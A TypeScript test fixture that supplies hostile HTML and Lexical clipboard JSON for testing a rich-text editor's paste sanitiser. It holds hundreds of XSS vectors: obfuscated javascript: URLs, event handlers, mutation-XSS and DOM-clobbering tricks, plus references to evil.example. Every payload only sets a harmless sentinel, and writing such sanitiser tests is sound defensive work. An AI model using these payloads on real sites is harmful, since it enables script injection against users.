/**
 * Hostile clipboards for the paste tests. Every payload tries to run `window.__xss = 1` or
 * `__xssHit()`, so a sentinel sees any execution. Pure data: no DOM, no Node.
 */

const HIT = 'window.__xss=1';
const CALL = '__xssHit()';

/** Ways to say javascript: (and its cousins) that browsers, or sloppy filters, read as a script URL. */
export const HOSTILE_URLS: string[] = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${HIT}`,
  `java\tscript:${HIT}`,
  `java\nscript:${CALL}`,
  `java&#x09;script:${HIT}`,
  `jav&#x0A;ascript:${CALL}`,
  `&#106;avascript:${HIT}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${CALL}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${HIT}`,
  `javascript&colon;${HIT}`,
  `\u0001javascript:${CALL}`,
  `javascript://%0a${HIT}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${CALL}"/>`,
  `livescript:${HIT}`,
];

/** Each hostile URL in each place a URL can hide. */
const URL_CONTEXTS: ((url: string) => string)[] = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<p>before <a href='${u}' title="t">inside</a> after</p>`,
  (u) => `<img src="${u}">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>send</button></form>`,
  (u) => `<button formaction="${u}">go</button>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text x="20" y="20">svg link</text></a></svg>`,
  (u) => `<math><maction actiontype="statusline" xlink:href="${u}">math link</maction></math>`,
  (u) => `<base href="${u}"><a href="/relative">relative</a>`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
  (u) => `<img srcset="${u} 1x, x.png 2x">`,
];

const EVENT_TAGS = [
  'p',
  'a href="https://example.com"',
  'b',
  'i',
  'strong',
  'em',
  'span',
  'h2',
  'li',
  'ul',
  'blockquote',
  'div',
  'h1',
  'ol',
];
const EVENTS = ['onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'onpointerenter'];

/** Event handlers on tags the sanitiser does keep. */
const eventPayloads = EVENT_TAGS.flatMap((tag) => {
  const name = tag.split(' ')[0];
  return EVENTS.map((event) => `<${tag} ${event}="${HIT}" tabindex="1" autofocus>${name} ${event}</${name}>`);
});

/** Classic, mutation (mXSS), template and style vectors. */
const CLASSIC: string[] = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=data:,${CALL}></SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<script/xss>${CALL}</script>`,
  `<script>/*</script><script>*/${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src=x onerror=${CALL}>`,
  `<IMG SRC=# onerror="${HIT}">`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="x" onerror\t="${HIT}">`,
  `<img src=x:x onerror=&#x77;&#x69;&#x6e;&#x64;&#x6f;&#x77;.__xss=1>`,
  `<svg onload="${HIT}">`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName="x" dur="1s">`,
  `<svg><set attributeName="onmouseover" to="${HIT}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
  `<body onload="${HIT}">`,
  `<video src=x onerror="${CALL}"></video>`,
  `<audio src=x onerror="${HIT}"></audio>`,
  `<video><source onerror="${CALL}"></video>`,
  `<details open ontoggle="${HIT}">d</details>`,
  `<input autofocus onfocus="${CALL}">`,
  `<select autofocus onfocus="${HIT}"></select>`,
  `<textarea autofocus onfocus="${CALL}"></textarea>`,
  `<marquee onstart="${HIT}">m</marquee>`,
  `<iframe onload="${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>parent.${HIT}</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='parent.${CALL}'/>">`,
  `<isindex action="javascript:${HIT}" type=image>`,
  `<keygen autofocus onfocus="${CALL}">`,
  `<form><button formaction="javascript:${HIT}">x</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${CALL}">x</button>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${HIT}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template><script>${HIT}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${HIT}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${CALL}>"></noframes>`,
  `<iframe><img title="</iframe><img src=x onerror=${HIT}>"></iframe>`,
  `<title><img title="</title><img src=x onerror=${CALL}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${HIT}>"></textarea>`,
  `<style><img title="</style><img src=x onerror=${CALL}>"></style>`,
  `<!--<img src="--><img src=x onerror=${HIT}//">`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${HIT}>">]]></svg>`,
  `<math><mi xlink:href="data:x,<script>${CALL}</script>">m</mi></math>`,
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<p style="background:url(javascript:${HIT})">styled</p>`,
  `<div style="width:expression(${CALL})">expr</div>`,
  `<span style="behavior:url(xss.htc)">behaviour</span>`,
  `<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">binding</p>`,
  `<style>@import 'javascript:${HIT}';</style>`,
  `<style>body{background:url("javascript:${CALL}")}</style>`,
  `<link rel="stylesheet" href="javascript:${HIT}">`,
  `<link rel="import" href="data:text/html,<script>${CALL}</script>">`,
  `<b style="font-weight:700;background-image:url(javascript:${HIT})">bold styled</b>`,
  `<span style="font-style:italic" onmouseover="${CALL}">italic handler</span>`,
  `<a href="https://example.com" style="position:fixed;inset:0" onclick="${HIT}">overlay</a>`,
  `<a href="https://example.com" target="_blank" rel="opener" ping="https://evil.example">ping</a>`,
  `<a href="https://example.com" data-x="javascript:${CALL}" aria-label="x">data attr</a>`,
  `<p id="__xss" name="cookie" class="x">clobber</p>`,
  `<form name="getElementById"><input name="__xss"></form>`,
  `<img name="createElement" src="https://example.com/x.png">`,
  `<a id="__xssHit" href="https://example.com">clobber hit</a>`,
  `<div is="x-foo" onclick="${HIT}">custom</div>`,
  `<x-foo onclick="${CALL}">custom element</x-foo>`,
  `<frameset onload="${HIT}"></frameset>`,
  `<table background="javascript:${CALL}"><tr><td>cell</td></tr></table>`,
  `<td background="javascript:${HIT}">td</td>`,
  `<bgsound src="javascript:${CALL}">`,
  `<layer src="javascript:${HIT}"></layer>`,
  `<div><p>nested <i onmouseover="${CALL}">deep</i></p></div>`,
  `<ul><li onclick="${HIT}">item</li><li><a href="javascript:${CALL}">item link</a></li></ul>`,
  `<h1 onclick="${HIT}">head</h1><h4 style="color:red">four</h4>`,
  `<blockquote cite="javascript:${CALL}">quote</blockquote>`,
  `<a href="https://example.com/&quot;onmouseover=&quot;${HIT}">quoted attr</a>`,
  `<a href="https://example.com/" onmouseover="${CALL}">handler on good link</a>`,
  `<p>text <img src=x onerror=${HIT}> more</p>`,
  `<span>\u202E${HIT}</span>`,
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${HIT}>`,
  `</p></div><script>${CALL}</script><div><p>`,
  `<b id="docs-internal-guid-1" style="font-weight:normal" onclick="${HIT}"><span style="font-weight:700">docs</span></b>`,
  `<p class=MsoNormal onmouseover="${CALL}"><o:p onclick="${HIT}">word</o:p></p>`,
  `<!--[if gte mso 9]><xml><script>${HIT}</script></xml><![endif]--><p>after conditional</p>`,
  `<![if !supportLists]><img src=x onerror=${CALL}><![endif]>`,
  `<a href="javascript:void(0)" onclick="${HIT}">void</a>`,
  `<a href="  https://ok.example  " onclick="${CALL}">spaces ok</a>`,
  `<a href="http://">empty host</a><a href="mailto:">empty mail</a>`,
];

/** At least 200 distinct HTML payloads for `text/html`. */
export const XSS_HTML: string[] = [
  ...new Set([...CLASSIC, ...eventPayloads, ...HOSTILE_URLS.flatMap((u) => URL_CONTEXTS.map((c) => c(u)))]),
];

const text = (value: string, extra: Record<string, unknown> = {}) => ({
  type: 'text',
  version: 1,
  text: value,
  format: 0,
  style: '',
  mode: 'normal',
  detail: 0,
  ...extra,
});
const paragraph = (...children: unknown[]) => ({
  type: 'paragraph',
  version: 1,
  children,
  direction: null,
  format: '',
  indent: 0,
});
const clipboard = (...nodes: unknown[]) => JSON.stringify({ namespace: 'newsdesk-body', nodes });

function nested(depth: number): unknown {
  let node: unknown = text(`deep <img src=x onerror=${HIT}>`);
  for (let i = 0; i < depth; i++)
    node = { type: i % 2 ? 'link' : 'quote', url: `javascript:${CALL}`, version: 1, children: [node] };
  return node;
}

const STYLES = [
  `background:url(javascript:${HIT})`,
  `width:expression(${CALL})`,
  'behavior:url(xss.htc)',
  'position:fixed;top:0;left:0;width:100%;height:100%',
  `background-image:url("data:image/svg+xml,<svg onload='${HIT}'/>")`,
  'color:red;font-size:99px',
];

/** Lexical clipboard JSON (`application/x-lexical-editor`) that tries to smuggle the same things in. */
export const XSS_LEXICAL: string[] = [
  ...HOSTILE_URLS.flatMap((url) => [
    clipboard(
      paragraph(text('before '), {
        type: 'link',
        version: 1,
        url,
        rel: null,
        target: '_blank',
        title: 'x',
        children: [text('link')],
      }),
    ),
    clipboard({ type: 'autolink', version: 1, url, children: [text('auto')] }),
    clipboard({
      type: 'captioned-photo',
      version: 1,
      photoId: 'a'.repeat(64),
      src: url,
      caption: 'photo',
      credit: 'c',
      altText: 'a',
      width: 10,
      height: 10,
    }),
    clipboard({
      type: 'list',
      version: 1,
      listType: 'bullet',
      children: [
        { type: 'listitem', version: 1, children: [{ type: 'link', version: 1, url, children: [text('item link')] }] },
      ],
    }),
    clipboard({
      type: 'heading',
      version: 1,
      tag: 'h2',
      children: [
        {
          type: 'link',
          version: 1,
          url: 'https://example.com',
          children: [{ type: 'link', version: 1, url, children: [text('link in link')] }],
        },
      ],
    }),
  ]),
  // Each classic HTML vector as a node Lexical does not know, carrying it as raw HTML and as styled text.
  ...CLASSIC.map((html) =>
    clipboard({
      type: 'html',
      version: 1,
      html,
      children: [text(html, { style: `background:url(javascript:${HIT})` })],
    }),
  ),
  ...STYLES.map((style) => clipboard(paragraph(text('styled', { style, format: 0xffff, mode: 'token', detail: 3 })))),
  clipboard(paragraph(text('state', { $: { style: `background:url(javascript:${HIT})` } }))),
  clipboard({
    type: 'captioned-photo',
    version: 1,
    photoId: 'b'.repeat(64),
    src: 'https://evil.example/track.png',
    caption: 'external',
    credit: '',
    altText: '',
    width: 1,
    height: 1,
  }),
  clipboard({
    type: 'captioned-photo',
    version: 1,
    photoId: 'c'.repeat(64),
    src: 'data:image/svg+xml,<svg onload="x"/>',
    caption: 'data',
    credit: '',
    altText: '',
    width: 1,
    height: 1,
  }),
  clipboard({ type: 'html', version: 1, html: `<img src=x onerror=${HIT}>`, children: [text('raw html node')] }),
  clipboard({ type: 'iframe', version: 1, src: `javascript:${CALL}`, srcdoc: `<script>${HIT}</script>` }),
  clipboard({ type: 'embed', version: 1, children: [paragraph(text('embedded words'))] }),
  clipboard({
    type: 'table',
    version: 1,
    children: [
      {
        type: 'tablerow',
        version: 1,
        children: [{ type: 'tablecell', version: 1, children: [paragraph(text('cell'))] }],
      },
    ],
  }),
  clipboard({ type: 'code', version: 1, language: 'html', children: [text(`<script>${HIT}</script>`)] }),
  clipboard(
    { type: 'heading', version: 1, tag: 'h1', children: [text('h1 to h2')] },
    { type: 'heading', version: 1, tag: 'h6', children: [text('h6 to h3')] },
  ),
  clipboard({ type: 'heading', version: 1, tag: 'script', children: [text('bad tag')] }),
  clipboard({
    type: 'list',
    version: 1,
    listType: 'check',
    tag: 'script',
    start: -5,
    children: [{ type: 'listitem', version: 1, checked: true, value: 1, children: [text('check')] }],
  }),
  clipboard({
    type: 'paragraph',
    version: 1,
    format: 'javascript:',
    indent: 1e9,
    direction: '<script>',
    textStyle: `background:url(javascript:${HIT})`,
    children: [text('para attrs')],
  }),
  clipboard({ type: 'root', version: 1, children: [paragraph(text('root inside'))] }),
  clipboard({ type: 'text', version: 1, text: 42 }, null, 7, 'string', [text('array')]),
  clipboard(nested(500)),
  clipboard(
    paragraph(
      ...Array.from({ length: 3000 }, (_, i) =>
        i % 2 ? { type: 'linebreak', version: 1 } : text(`w${i}`, { style: 'color:red' }),
      ),
    ),
  ),
  clipboard({ type: 'text', version: 1, text: 'Ca\u0302\u0300n Tho\u031B', format: 3 }),
  JSON.stringify({
    namespace: 'other-editor',
    nodes: [{ type: 'link', url: `javascript:${HIT}`, children: [text('foreign namespace')] }],
  }),
  '{"namespace":"newsdesk-body","nodes":[{"type":"paragraph","children":[{"type":"text","text":"broken"',
  JSON.stringify({ nodes: { type: 'paragraph' } }),
  JSON.stringify({
    __proto__: { polluted: true },
    nodes: [{ type: 'paragraph', constructor: { prototype: { polluted: true } }, children: [text('proto')] }],
  }),
];
